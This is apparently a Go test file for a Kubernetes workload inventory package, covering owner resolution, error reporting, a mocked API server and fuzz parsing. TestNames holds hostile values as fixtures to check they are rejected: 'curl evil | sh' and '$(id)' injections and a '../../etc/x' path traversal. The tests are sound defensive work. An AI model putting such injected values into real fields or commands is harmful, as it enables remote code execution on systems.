package inventory

import (
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
)

func ids(c *Cluster) []string {
	var all []string
	for _, w := range c.Workloads {
		all = append(all, w.ID())
	}
	return all
}

const owned = `"ownerReferences":[{"apiVersion":"apps/v1","kind":"KIND","name":"NAME","uid":"1","controller":true}]`

func owner(kind, name string) string {
	return strings.NewReplacer("KIND", kind, "NAME", name).Replace(owned)
}

// Pods belong to what made them, however far up, and what was not read stands for itself once.
func TestOwners(t *testing.T) {
	t.Parallel()
	c := New()
	for _, object := range []string{
		`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"a"}}`,
		`{"apiVersion":"apps/v1","kind":"ReplicaSet","metadata":{"name":"a-1",` + owner("Deployment", "a") + `}}`,
		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a-1-x",` + owner("ReplicaSet", "a-1") + `}}`,
		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"done",` + owner("ReplicaSet", "a-1") + `},"status":{"phase":"Failed"}}`,
		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"b-1",` + owner("Rollout", "b") + `}}`,
		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"b-2",` + owner("Rollout", "b") + `}}`,
		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"c-1",` + owner("Rollout", "c") + `},"status":{"phase":"Succeeded"}}`,
		`{"apiVersion":"apps/v1","kind":"ReplicaSet","metadata":{"name":"circle",` + owner("ReplicaSet", "circle") + `}}`,
		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"static",` + owner("Node", "n") + `}}`,
		`{"apiVersion":"v1","kind":"Service","metadata":{"name":"a"}}`,
		`{"apiVersion":"example.com/v1","kind":"Deployment","metadata":{"name":"not-ours"}}`,
	} {
		if err := c.AddFile("f", []byte(object)); err != nil && !errors.Is(err, ErrFile) {
			t.Fatal(err)
		}
	}
	c.Finish()
	if got, want := ids(c), []string{"default/Deployment/a", "default/Pod/static", "default/ReplicaSet/circle", "default/Rollout/b"}; !slices.Equal(got, want) {
		t.Errorf("%v, want %v", got, want)
	}
	if a := c.Workloads[0]; len(a.Pods) != 1 || a.Pods[0].Name != "a-1-x" || a.Account().Name != "default" {
		t.Errorf("%+v", a)
	}
}

// What is no name, in a file or of an owner, of which an API server takes anything, becomes no word of a command and no file's name: it is a problem, by name.
func TestNames(t *testing.T) {
	t.Parallel()
	for _, object := range []string{
		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a","ownerReferences":[{"apiVersion":"v1","kind":"X; curl evil | sh\n","name":"b","uid":"1","controller":true}]}}`,
		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a","ownerReferences":[{"apiVersion":"v1","kind":"X","name":"$(id)","uid":"1","controller":true}]}}`,
		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a"},"spec":{"serviceAccountName":"a$(id)"}}`,
		`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"../../etc/x"}}`,
		`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"x","namespace":"a b"}}`,
		`{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"a\nb"}}`,
		`{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"a;b"}}`,
		`{"apiVersion":"v1","kind":"Secret","metadata":{"name":"a;b","labels":{"heritage":"kube-aws-iam-controller"}}}`,
		`{"apiVersion":"zalando.org/v1","kind":"AWSIAMRole","metadata":{"name":"a;b"}}`,
	} {
		c := New()
		if err := c.AddFile("f", []byte(object)); err != nil {
			t.Fatal(err)
		}
		c.Finish()
		if len(c.Problems) != 1 || len(c.Workloads)+len(c.Namespaces)+len(c.Accounts)+len(c.Secrets)+len(c.Roles) != 0 {
			t.Errorf("%s: %+v", object, c)
		}
	}
}

// One object that can't be read is named, and nothing else is lost.
func TestNothingElseIsLost(t *testing.T) {
	t.Parallel()
	for name, file := range map[string]string{
		"YAML": "kind: [\n---\napiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n---\napiVersion: v1\nkind: ServiceAccount\nmetadata: {name: b, namespace: a}\nsecrets: none\n",
		"JSON": `{"kind":"List","apiVersion":"v1","items":[{"kind":3},{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"a"}},{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"b","namespace":"a"},"secrets":"none"}]}`,
		"the server's own list": `{"kind":"NamespaceList","apiVersion":"v1","items":[{"metadata":{"name":"a"}}]}
			{"kind":"ServiceAccountList","apiVersion":"v1","items":[{"metadata":{"name":"b","namespace":"a"},"secrets":"none"}]} {`,
	} {
		c := New()
		if err := c.AddFile("f", []byte(file)); err != nil {
			t.Fatal(name, err)
		}
		if _, found := c.Namespaces["a"]; !found || len(c.Problems) != 2 {
			t.Errorf("%s: %+v, %+v", name, c.Namespaces, c.Problems)
		}
		if !slices.ContainsFunc(c.Problems, func(p Problem) bool { return strings.Contains(p.Where, "ServiceAccount b in namespace a") }) {
			t.Errorf("%s: %+v", name, c.Problems)
		}
	}
}

// Pages, a resource that may not be read, one that this cluster has not, and Secrets of which only names come.
func TestAddCluster(t *testing.T) {
	t.Parallel()
	mux := http.NewServeMux()
	mux.HandleFunc("GET /api/v1/namespaces", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Query().Get("continue") == "" {
			_, _ = w.Write([]byte(`{"kind":"NamespaceList","apiVersion":"v1","metadata":{"continue":"next"},"items":[{"metadata":{"name":"a"}}]}`))
			return
		}
		_, _ = w.Write([]byte(`{"kind":"NamespaceList","apiVersion":"v1","items":[{"metadata":{"name":"b"}}]}`))
	})
	mux.HandleFunc("GET /api/v1/secrets", func(w http.ResponseWriter, r *http.Request) {
		if !strings.Contains(r.Header.Get("Accept"), "PartialObjectMetadataList") || r.URL.Query().Get("labelSelector") == "" {
			t.Error("Secrets were asked for whole")
		}
		_, _ = w.Write([]byte(`{"kind":"PartialObjectMetadataList","apiVersion":"meta.k8s.io/v1","items":[{"kind":"PartialObjectMetadata","apiVersion":"meta.k8s.io/v1","metadata":{"name":"s","namespace":"a","labels":{"heritage":"kube-aws-iam-controller"}}}]}`))
	})
	mux.HandleFunc("GET /api/v1/pods", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_, _ = w.Write([]byte(`{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"Forbidden","message":"pods is forbidden","code":403}`))
	})
	mux.HandleFunc("GET /apis/zalando.org/", http.NotFound)
	mux.HandleFunc("GET /", func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write([]byte(`{"kind":"List","apiVersion":"v1","items":[]}`))
	})
	server := httptest.NewServer(mux)
	t.Cleanup(server.Close)
	client, err := kubernetes.NewForConfig(&rest.Config{Host: server.URL})
	if err != nil {
		t.Fatal(err)
	}
	c := New()
	if err := c.AddCluster(t.Context(), client, true); err != nil {
		t.Fatal(err)
	}
	if len(c.Namespaces) != 2 || len(c.Problems) != 1 || !strings.Contains(c.Problems[0].What, "pods is forbidden") || len(c.Secrets) != 1 || c.Secrets[0].String() != "a/s" {
		t.Errorf("%+v", c)
	}
	server.Close()
	if err := New().AddCluster(t.Context(), client, true); err == nil || !strings.Contains(err.Error(), "/api/v1/namespaces") {
		t.Error("nobody answers:", err)
	}
}

func FuzzParseAWSIAMRole(f *testing.F) {
	f.Add([]byte(`{"metadata":{"name":"a","namespace":"b"},"spec":{"roleReference":"r","roleSessionDuration":7200},"status":{"roleARN":"arn:aws:iam::111122223333:role/r"}}`))
	f.Add([]byte(`{"metadata":{},"spec":{}}`))
	f.Add([]byte(`[]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		role, err := parseAWSIAMRole(data)
		if err != nil {
			return
		}
		again, err := json.Marshal(map[string]any{
			"metadata": map[string]string{"name": role.Name.Name, "namespace": role.Namespace},
			"spec":     map[string]any{"roleReference": role.Reference, "roleSessionDuration": role.Duration}, "status": map[string]string{"roleARN": role.ARN},
		})
		if err != nil {
			t.Fatal(err)
		}
		if got, err := parseAWSIAMRole(again); err != nil || got != role {
			t.Errorf("%+v, %v, want %+v", got, err, role)
		}
	})
}

func FuzzAddFile(f *testing.F) {
	f.Add([]byte(`{"kind":"List","items":[{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a"}}]}`))
	f.Add([]byte("kind: Pod\napiVersion: v1\nmetadata: {name: a}\n---\n"))
	f.Add([]byte(`{"kind":"List","items":[{"kind":"List","items":[{"kind":"List","items":[]}]}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		c := New()
		if err := c.AddFile("f", data); err != nil && !errors.Is(err, ErrFile) {
			t.Fatal(err)
		}
		c.Finish()
	})
}
